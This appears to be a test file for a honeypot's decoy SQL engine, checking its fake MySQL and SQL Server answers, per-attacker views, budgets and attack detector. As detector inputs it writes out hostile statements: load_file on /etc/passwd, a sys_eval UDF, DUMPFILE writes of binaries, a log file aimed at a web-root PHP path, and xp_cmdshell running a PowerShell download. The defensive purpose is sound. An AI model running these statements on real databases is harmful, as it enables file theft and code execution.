// The decoy SQL engine: what attackers' statements return, per-source views, resets, attack moves,
// and property tests (random text, deep nesting, megabyte statements never throw or hang).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { compareText, execute, MAX_AUTO_INCREMENT, type Result } from '../../../src/sensors/sql/engine.js';
import { rows, sqlSession as session } from '../../helpers/sql-engine.js';
import { generateDecoy, mysqlNativeHash } from '../../../src/sensors/sql/decoy-data.js';
import { maskSecret } from '../../../src/events/mask.js';
import { DecoyState, MAX_TOTAL_OVERLAY_WRITE_BYTES } from '../../../src/sensors/sql/decoy-state.js';
import { lex, splitStatements } from '../../../src/sensors/sql/lexer.js';
import { detectMssqlAttacks, detectMysqlAttacks, urlsIn } from '../../../src/sensors/sql/attacks.js';

const decoy = generateDecoy({ seed: Buffer.alloc(16, 9), now: Date.UTC(2026, 0, 1), appDatabase: 'webshop' });

test('the same seed gives the same decoy; another seed another one', () => {
  const again = generateDecoy({ seed: Buffer.alloc(16, 9), now: Date.UTC(2026, 0, 1), appDatabase: 'webshop' });
  assert.deepEqual(again.honeytokens, decoy.honeytokens);
  assert.deepEqual(again.databases.get('webshop')!.tables.get('customers')!.rows, decoy.databases.get('webshop')!.tables.get('customers')!.rows);
  const other = generateDecoy({ seed: Buffer.alloc(16, 10), now: Date.UTC(2026, 0, 1) });
  assert.notDeepEqual(other.honeytokens.map((t) => t.secret), decoy.honeytokens.map((t) => t.secret));
  assert.equal(decoy.honeytokens.length, 6);
  assert.equal(mysqlNativeHash('root'), '*81F5E21E35407D884A6CD4A731AEBFB6AF209E1B');
  assert.equal(maskSecret('Dragon2024!'), 'Dr********!');
});

test('SHOW, USE, DESCRIBE, SELECT with WHERE, ORDER BY, LIMIT, COUNT, GROUP BY and functions', () => {
  const state = new DecoyState(decoy);
  const view = state.viewFor('a');
  const s = session();
  // Sorted by name, as mysqld lists them (an unsorted list gave the decoy away).
  assert.deepEqual(rows(execute('SHOW DATABASES', s, view).result).map((r) => r[0]), ['information_schema', 'mysql', 'performance_schema', 'sys', 'webshop']);
  assert.equal(execute('SHOW TABLES', s, view).result.kind, 'error');
  const use = execute('use `webshop`', s, view);
  assert.equal(use.database, 'webshop');
  s.database = 'webshop';
  assert.deepEqual(rows(execute('show tables', s, view).result).map((r) => r[0]), ['admins', 'customers', 'orders', 'users']);
  assert.deepEqual(rows(execute("SHOW TABLES LIKE 'ord%'", s, view).result), [['orders']]);
  assert.deepEqual(rows(execute('DESCRIBE admins', s, view).result).map((r) => r[0]), ['id', 'username', 'password', 'email', 'created_at']);
  assert.deepEqual(rows(execute('SELECT COUNT(*) FROM orders', s, view).result), [[600]]);
  const top = rows(execute('SELECT id, total FROM orders WHERE status = "paid" AND total > 10 ORDER BY total DESC LIMIT 3', s, view).result);
  assert.equal(top.length, 3);
  assert.ok(Number(top[0]![1]) >= Number(top[1]![1]) && Number(top[1]![1]) >= Number(top[2]![1]));
  assert.deepEqual(rows(execute('SELECT id FROM customers ORDER BY id LIMIT 2, 3', s, view).result), [[3], [4], [5]]);
  assert.deepEqual(rows(execute('SELECT id FROM customers WHERE id IN (5, 7) OR id BETWEEN 1 AND 2 ORDER BY 1', s, view).result), [[1], [2], [5], [7]]);
  const groups = rows(execute('SELECT status, COUNT(*) AS n FROM orders GROUP BY status ORDER BY n DESC', s, view).result);
  assert.equal(groups.reduce((a, r) => a + Number(r[1]), 0), 600);
  assert.deepEqual(rows(execute('SELECT @@version, @@hostname, user(), database(), VERSION() AS v', s, view).result), [['8.0.36', 'db01', 'root@203.0.113.9', 'webshop', '8.0.36']]);
  assert.deepEqual(rows(execute('SELECT @@version_comment LIMIT 1', s, view).result), [['MySQL Community Server - GPL']]);
  assert.deepEqual(rows(execute("select concat('a', 1, 'b'), hex('AB'), unhex('4142'), 1+2*3, md5('x') like '9dd4%'", s, view).result), [['a1b', '4142', 'AB', 7, 1]]);
  assert.deepEqual(rows(execute("SELECT table_name FROM information_schema.tables WHERE table_schema = 'webshop' AND table_name LIKE 'adm%'", s, view).result), [['admins']]);
  assert.equal(rows(execute('SELECT user, authentication_string FROM mysql.user', s, view).result).length, 5, 'root@localhost and root@%, the app user, mysql.sys, backup');
  assert.equal(rows(execute('SELECT DISTINCT status FROM orders', s, view).result).length, 6);
  const err = execute('SELECT nope FROM customers', s, view).result;
  assert.deepEqual(err.kind === 'error' && [err.code, err.state], [1054, '42S22']);
  const syntax = execute('SELEKT 1', s, view).result;
  assert.ok(syntax.kind === 'error' && syntax.code === 1064 && syntax.message.includes("near 'SELEKT 1'"));
  assert.equal(execute('SET NAMES utf8mb4', s, view).result.kind, 'ok');
  execute('SET @x = 41 + 1', s, view);
  assert.deepEqual(rows(execute('SELECT @x', s, view).result), [[42]]);
  assert.equal(execute('/*!40101 SET character_set_client = utf8 */', s, view).result.kind, 'ok');
  assert.equal(state.overlayCount, 0, 'reads never copy the decoy');
});

test('INSERT, UPDATE, DELETE and DDL change only that source view, until the scheduled reset', () => {
  const state = new DecoyState(decoy);
  const a = state.viewFor('198.51.100.1');
  const b = state.viewFor('198.51.100.2');
  const s = session('webshop');
  const ins = execute("INSERT INTO admins (username, password) VALUES ('evil', 'pw'), ('evil2', 'pw2')", s, a).result;
  assert.deepEqual(ins, { kind: 'ok', affected: 2, insertId: 6, info: 'Records: 2  Duplicates: 0  Warnings: 0' });
  const upd = execute("UPDATE admins SET password = 'changed' WHERE username LIKE 'evil%'", s, a).result;
  assert.equal(upd.kind === 'ok' && upd.affected, 2);
  assert.deepEqual(rows(execute("SELECT password FROM admins WHERE username = 'evil'", s, a).result), [['changed']]);
  assert.deepEqual(rows(execute("SELECT password FROM admins WHERE username = 'evil'", s, b).result), []);
  assert.equal(execute('DELETE FROM customers WHERE id > 10', s, a).result.kind, 'ok');
  assert.deepEqual(rows(execute('SELECT COUNT(*) FROM customers', s, a).result), [[10]]);
  assert.deepEqual(rows(execute('SELECT COUNT(*) FROM customers', s, b).result), [[200]]);
  assert.equal(execute('CREATE TABLE loot (id int, data text)', s, a).result.kind, 'ok');
  assert.equal(execute("INSERT INTO loot VALUES (1, 'x')", s, a).result.kind, 'ok');
  assert.equal(execute('DROP DATABASE webshop', s, a).result.kind, 'ok');
  assert.ok(!rows(execute('SHOW DATABASES', s, a).result).some((r) => r[0] === 'webshop'));
  assert.equal(decoy.databases.get('webshop')!.tables.get('customers')!.rows.length, 200, 'the generated decoy is never changed');
  state.reset();
  assert.deepEqual(rows(execute('SELECT COUNT(*) FROM customers', s, a).result), [[200]]);
  assert.equal(state.resets, 1);
});

test('AUTO_INCREMENT stays a safe integer whatever ids are inserted explicitly', () => {
  const s = session('webshop');
  const view = new DecoyState(decoy).viewFor('198.51.100.7');
  assert.equal(execute("INSERT INTO admins(id, username) VALUES(1e300, 'a')", s, view).result.kind, 'ok');
  for (const name of ['b', 'c']) {
    // At the top the counter stays put, as MySQL's does when the column's type is exhausted.
    assert.deepEqual(execute(`INSERT INTO admins(username) VALUES('${name}')`, s, view).result, { kind: 'ok', affected: 1, insertId: MAX_AUTO_INCREMENT });
  }
  assert.ok(Number.isSafeInteger(MAX_AUTO_INCREMENT));
  assert.match(String(rows(execute('SHOW CREATE TABLE admins', s, view).result)[0]![1]), new RegExp(`AUTO_INCREMENT=${MAX_AUTO_INCREMENT} `));
  const ids = fc.oneof(
    fc.double({ noNaN: true }).map((d) => String(d)),
    fc.integer().map(String),
    fc.constantFrom('1e300', '1.8e308', '-1e300', '9007199254740993', '0', "'abc'", 'NULL', '-0.5'),
  );
  fc.assert(
    fc.property(fc.array(ids, { maxLength: 4 }), (explicit) => {
      const v = new DecoyState(decoy).viewFor('198.51.100.8');
      for (const id of explicit) execute(`INSERT INTO admins(id, username) VALUES(${id}, 'x')`, s, v);
      const r = execute("INSERT INTO admins(username) VALUES('y')", s, v).result;
      assert.equal(r.kind, 'ok');
      if (r.kind === 'ok') assert.ok(Number.isSafeInteger(r.insertId) && r.insertId! > 0 && r.insertId! <= MAX_AUTO_INCREMENT, String(r.insertId));
    }),
    { numRuns: 200 },
  );
});

test('SELECT INTO DUMPFILE hands back the bytes it would write; attack moves are named', () => {
  const state = new DecoyState(decoy);
  const s = session('webshop');
  const ex = execute("SELECT unhex('7f454c46') INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'", s, state.viewFor('x'));
  assert.deepEqual(ex.result, { kind: 'ok', affected: 1 });
  assert.deepEqual(ex.files, [{ path: '/usr/lib/mysql/plugin/x.so', mode: 'dumpfile', data: Buffer.from([0x7f, 0x45, 0x4c, 0x46]) }]);
  const out = execute("SELECT username, password FROM admins INTO OUTFILE '/var/www/html/a.txt'", s, state.viewFor('x'));
  assert.equal(out.files[0]!.data.toString().split('\n').length, 6);
  assert.deepEqual(
    detectMysqlAttacks("select load_file('/etc/passwd'); create function sys_eval returns string soname 'lib_mysqludf_sys.so'; select sys_eval('id')").map((m) => m.name),
    ['mysql.load_file', 'mysql.udf_create', 'mysql.udf_exec'],
  );
  assert.deepEqual(detectMysqlAttacks("SET GLOBAL general_log_file = '/var/www/html/s.php'").map((m) => m.detail), ['general_log_file = /var/www/html/s.php']);
  const mz = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]);
  const hex = detectMysqlAttacks(`SELECT 0x${mz.toString('hex')} INTO DUMPFILE 'c:/windows/x.exe'`);
  assert.deepEqual(hex.find((m) => m.name === 'mysql.hex_payload')?.payload, mz);
  const t = detectMssqlAttacks("EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC master..xp_cmdshell 'powershell -c \"iwr http://127.0.0.1:8/a.exe -o a.exe\"'");
  assert.deepEqual(t.map((m) => m.name), ['mssql.xp_cmdshell', 'mssql.sp_configure']);
  assert.deepEqual(t[0]!.commands, ['powershell -c "iwr http://127.0.0.1:8/a.exe -o a.exe"']);
  assert.equal(t[1]!.detail, 'show advanced options = 1');
  assert.deepEqual(urlsIn(t[0]!.commands![0]!), ['http://127.0.0.1:8/a.exe']);
});

test('xp_cmdshell named in a string (the option sp_configure sets, a catalogue lookup) is not a call', () => {
  // impacket's enable_xp_cmdshell, then a check of the option: no command ran.
  const enable = detectMssqlAttacks("exec master.dbo.sp_configure 'show advanced options',1;RECONFIGURE;exec master.dbo.sp_configure 'xp_cmdshell', 1;RECONFIGURE;");
  assert.deepEqual(enable.map((m) => [m.name, m.detail]), [['mssql.sp_configure', 'show advanced options = 1'], ['mssql.sp_configure', 'xp_cmdshell = 1']]);
  assert.deepEqual(detectMssqlAttacks("select name, value_in_use from sys.configurations where name = 'xp_cmdshell'"), []);
  assert.deepEqual(detectMssqlAttacks("EXEC [xp_cmdshell] 'whoami'").map((m) => m.commands), [['whoami']]);
});

test('quoted strings unescape as MySQL does: doubled quotes, backslash escapes, and T-SQL without them', () => {
  // A character at a time, as the lexer used to read them: the reference for the faster reader.
  const reference = (body: string, q: string, esc: boolean): string | undefined => {
    let out = '';
    for (let j = 0; j < body.length; j++) {
      const c = body[j]!;
      if (esc && c === '\\' && j + 1 < body.length) {
        const n = body[++j]!;
        out += n === 'n' ? '\n' : n === 't' ? '\t' : n === 'r' ? '\r' : n === '0' ? '\0' : n === 'Z' ? '\x1a' : n;
      } else if (c === q) {
        if (body[j + 1] !== q) return undefined;
        out += q;
        j++;
      } else out += c;
    }
    return out;
  };
  const piece = fc.constantFrom("''", "\\'", '\\n', '\\Z', '\\\\', 'ab', '"', '`', 'é', ' ', '\\x');
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }).map((p) => p.join('')), fc.constantFrom<'mysql' | 'tsql'>('mysql', 'tsql'), (body, dialect) => {
      const expected = reference(body, "'", dialect === 'mysql');
      const r = lex(`SELECT '${body}'`, dialect);
      if (expected === undefined || !r.ok) return;
      const strings = r.tokens.filter((t) => t.kind === 'string');
      if (strings.length === 1 && r.tokens.length === 2) assert.equal(strings[0]!.text, expected);
    }),
  );
  const r = lex("SELECT 'it''s', 'a\\nb'");
  assert.ok(r.ok);
  assert.deepEqual(r.tokens.filter((t) => t.kind === 'string').map((t) => t.text), ["it's", 'a\nb']);
});

test('statement splitting respects quotes and comments', () => {
  assert.deepEqual(splitStatements("select 1; select ';' ; -- x;\nselect 2 /* ; */"), ['select 1', "select ';'", '-- x;\nselect 2 /* ; */']);
});

test('random text, deep nesting and megabyte statements never throw and stay fast', () => {
  const state = new DecoyState(decoy);
  const view = state.viewFor('f');
  const words = fc.constantFrom('SELECT', '*', 'FROM', 'users', 'WHERE', 'id', '=', '1', '(', ')', ',', "'x'", 'AND', 'OR', 'NOT', 'LIMIT', 'ORDER', 'BY', 'COUNT(*)', '@@version', 'INTO', 'OUTFILE', 'SHOW', 'TABLES', 'USE', 'webshop', 'INSERT', 'VALUES', 'UPDATE', 'SET', 'DELETE', 'GROUP', 'IN', 'LIKE', '0x41', 'customers', 'DESC', ';', '`', '"', '--', '/*', 'UNION', 'ALL', 'CASE', 'WHEN', 'THEN', 'ELSE', 'END', 'CAST', 'AS', 'SIGNED', 'CONVERT', 'extractvalue(1,', '/', '%', '+');
  fc.assert(
    fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.array(words, { maxLength: 40 }).map((w) => w.join(' '))), (sql) => {
      const s = session('webshop');
      const r = execute(sql, s, view);
      assert.ok(['rows', 'ok', 'error'].includes(r.result.kind));
      assert.ok(!(r.result.kind === 'error' && r.result.message === 'Unknown error'), `engine fault on ${JSON.stringify(sql)}`);
      lex(sql, 'tsql');
      detectMysqlAttacks(sql);
      detectMssqlAttacks(sql);
    }),
    { numRuns: 3000 },
  );
  const deep = `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`;
  assert.equal(execute(deep, session(), view).result.kind, 'error');
  const nots = `SELECT ${'NOT '.repeat(5000)}1`;
  assert.equal(execute(nots, session(), view).result.kind, 'error');
  const t0 = Date.now();
  const mb = `SELECT '${'x'.repeat(1024 * 1024 - 20)}'`;
  const r = execute(mb, session(), view);
  assert.equal(r.result.kind, 'rows');
  const huge = execute(`SELECT '${'y'.repeat(2 * 1024 * 1024)}'`, session(), view);
  assert.ok(huge.result.kind === 'error' && huge.result.code === 1153);
  const like = execute(`SELECT '${'a'.repeat(5000)}' LIKE '${'%a'.repeat(300)}b'`, session(), view);
  assert.ok(like.result.kind === 'rows');
  assert.ok(Date.now() - t0 < 3000, `took ${Date.now() - t0} ms`);
  assert.equal(execute(`SELECT REPEAT('a', 100000000)`, session(), view).result.kind, 'rows');
});

test('the scheduled reset drops attacker changes on its own', async () => {
  const state = new DecoyState(decoy);
  const view = state.viewFor('192.0.2.7');
  const s = session('webshop');
  state.schedule(40);
  try {
    execute('DELETE FROM customers', s, view);
    assert.deepEqual(rows(execute('SELECT COUNT(*) FROM customers', s, view).result), [[0]]);
    await new Promise((r) => setTimeout(r, 120));
    assert.ok(state.resets >= 1);
    assert.deepEqual(rows(execute('SELECT COUNT(*) FROM customers', s, view).result), [[200]]);
  } finally {
    state.stop();
  }
});

test('one source cannot write more than its budget into its view', () => {
  const state = new DecoyState(decoy);
  const view = state.viewFor('198.51.100.66');
  const s = session('webshop');
  const big = 'z'.repeat(60_000);
  let full = false;
  for (let i = 0; i < 100 && !full; i++) {
    const r = execute(`INSERT INTO customers (first_name) VALUES ('${big}')`, s, view).result;
    if (r.kind === 'error') {
      assert.equal(r.code, 1114);
      full = true;
    }
  }
  assert.ok(full, 'inserts stop at the budget');
  assert.equal(execute("INSERT INTO customers (first_name) VALUES ('x')", s, state.viewFor('198.51.100.67')).result.kind, 'ok', 'other sources keep their own budget');
});

test('tables and databases count against the budget too; one IPv6 /64 is one source', () => {
  const state = new DecoyState(decoy);
  const view = state.viewFor('2001:db8:1:2::10');
  const s = session('webshop');
  const columns = Array.from({ length: 256 }, (_, i) => `c${i}_${'x'.repeat(50)} text`).join(', ');
  let error: Result | undefined;
  for (let i = 0; i < 5000 && !error; i++) {
    const r = execute(`CREATE TABLE t${i} (${columns})`, s, view).result;
    if (r.kind === 'error') error = r;
  }
  assert.equal(error?.kind === 'error' && error.code, 1005, 'CREATE TABLE stops at the budget, as on a full disk');
  const again = execute(`CREATE TABLE more (${columns})`, s, state.viewFor('2001:db8:1:2:ffff::1')).result;
  assert.equal(again.kind === 'error' && again.code, 1005, 'another address of the same /64 shares the spent budget');
  assert.equal(execute(`CREATE TABLE more (${columns})`, s, state.viewFor('2001:db8:1:3::1')).result.kind, 'ok', 'another /64 has its own');
});

test(`copies of all sources together hold at most MAX_TOTAL_OVERLAY_WRITE_BYTES; the least recently used go first`, () => {
  const state = new DecoyState(decoy);
  const s = session('webshop');
  const big = 'z'.repeat(65_000);
  // Each source writes 28 rows of about 130 KB (3.6 MB, under its own 4 MiB); 45 of them would hold 164 MB without the total.
  const sources = 45;
  for (let i = 0; i < sources; i++) {
    const view = state.viewFor(`198.51.100.${i}`);
    for (let k = 0; k < 28; k++) assert.equal(execute(`INSERT INTO customers (first_name) VALUES ('${big}')`, s, view).result.kind, 'ok');
  }
  assert.ok(state.overlayCount < sources, `${state.overlayCount} copies kept`);
  assert.ok((state.overlayCount - 1) * 28 * 130_000 <= MAX_TOTAL_OVERLAY_WRITE_BYTES, `${state.overlayCount} copies kept`);
  const count = (address: string): number => Number(rows(execute('SELECT count(*) FROM customers', s, state.viewFor(address)).result)[0]![0]);
  assert.equal(count(`198.51.100.${sources - 1}`) - count('198.51.100.0'), 28, 'the newest copy is kept, the oldest went back to the decoy');
});

test('T-SQL flavour: TOP, SYSTEM_USER, sys.databases, master..sysdatabases', () => {
  const state = new DecoyState(decoy);
  const s = session('webshop', 'tsql');
  const view = state.viewFor('t');
  assert.deepEqual(rows(execute('SELECT TOP 2 id FROM customers ORDER BY id DESC', s, view).result), [[200], [199]]);
  assert.deepEqual(rows(execute('SELECT SYSTEM_USER, USER', s, view).result), [['root', 'dbo']]);
  assert.ok(rows(execute('SELECT name FROM sys.databases', s, view).result).some((r) => r[0] === 'webshop'));
  assert.ok(rows(execute('SELECT name FROM master..sysdatabases', s, view).result).some((r) => r[0] === 'master'));
  assert.deepEqual(rows(execute("SELECT IS_SRVROLEMEMBER('sysadmin')", s, view).result), [[1]]);
});

test('T-SQL two-part names are schema.table in the current database (dbo.customers), three-part db.schema.table', () => {
  const state = new DecoyState(decoy);
  const s = session('webshop', 'tsql');
  const view = state.viewFor('t');
  const count = (sql: string): unknown => rows(execute(sql, s, view).result)[0]![0];
  assert.equal(count('SELECT count(*) FROM dbo.customers'), 200);
  assert.equal(count('SELECT count(*) FROM [dbo].[customers]'), 200);
  assert.equal(count('SELECT count(*) FROM webshop.dbo.customers'), 200);
  assert.equal(count('SELECT count(*) FROM webshop..customers'), 200);
  const missing = (sql: string): string => {
    const r = execute(sql, s, view).result;
    return r.kind === 'error' ? r.message : r.kind;
  };
  // The engine's MySQL text; the SQL Server session drops the database before the first dot.
  assert.equal(missing('SELECT * FROM dbo.nosuch'), "Table 'webshop.dbo.nosuch' doesn't exist");
  assert.equal(missing('SELECT * FROM webshop.dbo.nosuch'), "Table 'webshop.webshop.dbo.nosuch' doesn't exist");
  assert.equal(missing('SELECT * FROM nosuch'), "Table 'webshop.nosuch' doesn't exist");
  assert.ok(rows(execute('SELECT name FROM sys.databases', s, view).result).length > 0);
});

test('LIKE on long inserted values with a pathological pattern stays fast', () => {
  const state = new DecoyState(decoy);
  const view = state.viewFor('198.51.100.90');
  const s = session('webshop');
  for (let i = 0; i < 20; i++) execute(`INSERT INTO customers (first_name) VALUES (REPEAT('a', 60000))`, s, view);
  const t0 = Date.now();
  const r = execute(`SELECT COUNT(*) FROM customers WHERE first_name LIKE '${'%a'.repeat(500)}b'`, s, view);
  assert.deepEqual(rows(r.result), [[0]]);
  assert.ok(Date.now() - t0 < 3000, `took ${Date.now() - t0} ms`);
});

test('text comparison walks ASCII in place and orders as lower-cased strings do', () => {
  const lowered = (a: string, b: string): number => {
    const x = a.toLowerCase();
    const y = b.toLowerCase();
    return x < y ? -1 : x > y ? 1 : 0;
  };
  const text = fc.oneof(fc.string({ maxLength: 12 }), fc.string({ maxLength: 12, unit: 'grapheme' }), fc.constantFrom('ΑΣ{', 'ΑΣa', 'Σ', 'İx', 'ix', 'MADRID', 'madrid', 'Madrid!', 'ß', 'SS'));
  fc.assert(
    fc.property(text, text, (a, b) => {
      assert.equal(compareText(a, b), lowered(a, b));
      assert.equal(compareText(a, a.toUpperCase()), lowered(a, a.toUpperCase()));
    }),
    { numRuns: 2000 },
  );
});

test('a statement that builds too many characters (REPEAT in a WHERE, row after row) is interrupted, as is a batch of them', async () => {
  const { MAX_STATEMENT_WORK_CHARS, MAX_VALUE_CHARS } = await import('../../../src/sensors/sql/engine.js');
  const state = new DecoyState(decoy);
  const view = state.viewFor('198.51.100.91');
  const s = session('webshop');
  const r = execute(`SELECT COUNT(*) FROM orders WHERE MD5(REPEAT('a', ${MAX_VALUE_CHARS})) = 'x'`, s, view).result;
  assert.deepEqual(r.kind === 'error' ? [r.code, r.state, r.message] : r, [1317, '70100', 'Query execution was interrupted']);
  // One such call per statement passes; the statements of one query share the budget.
  const work = { chars: 0 };
  const one = `SELECT LENGTH(REPEAT('a', ${MAX_VALUE_CHARS}))`;
  const answers = Array.from({ length: 64 }, () => execute(one, s, view, work).result);
  const passed = answers.filter((a) => a.kind === 'rows').length;
  assert.equal(passed, Math.floor(MAX_STATEMENT_WORK_CHARS / MAX_VALUE_CHARS));
  assert.deepEqual(rows(execute(one, s, view).result), [[MAX_VALUE_CHARS]], 'a new query has a new budget');
});

test("SHOW PROCESSLIST's event scheduler has waited as long as the server has been up", () => {
  const view = new DecoyState(decoy).viewFor('a');
  const s = { ...session(), startedMs: Date.UTC(2025, 11, 1, 3, 4, 5) };
  const uptime = rows(execute("SHOW GLOBAL STATUS LIKE 'Uptime'", s, view).result)[0]![1];
  const scheduler = rows(execute('SHOW PROCESSLIST', s, view).result).find((r) => r[1] === 'event_scheduler')!;
  assert.equal(String(scheduler[5]), String(uptime));
  assert.equal(uptime, String(32 * 86_400));
});

test('mysql.user has the root@% that CURRENT_USER() and SHOW GRANTS name', () => {
  const view = new DecoyState(decoy).viewFor('a');
  const s = session();
  const [[current]] = rows(execute('SELECT CURRENT_USER()', s, view).result) as [[string]];
  const [user, host] = current.split('@') as [string, string];
  assert.deepEqual(rows(execute(`SELECT Host, User FROM mysql.user WHERE User = '${user}' AND Host = '${host}'`, s, view).result), [[host, user]]);
  assert.match(String(rows(execute('SHOW GRANTS', s, view).result)[0]![0]), new RegExp(`TO \`${user}\`@\`%\``));
});
